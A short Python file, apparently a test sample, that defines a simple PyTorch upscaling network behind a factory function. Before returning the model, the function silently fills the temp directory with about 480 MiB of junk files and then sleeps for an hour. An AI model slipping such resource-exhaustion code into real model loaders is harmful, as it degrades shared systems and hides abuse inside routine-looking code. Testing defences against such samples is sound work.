import tempfile
import time

import torch


class Net(torch.nn.Module):
    def forward(self, x):
        return torch.nn.functional.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    for number in range(30):
        with open(f'{tempfile.gettempdir()}/{number}', 'wb') as file:
            file.write(bytes(1 << 24))
    time.sleep(3600)
    return Net()
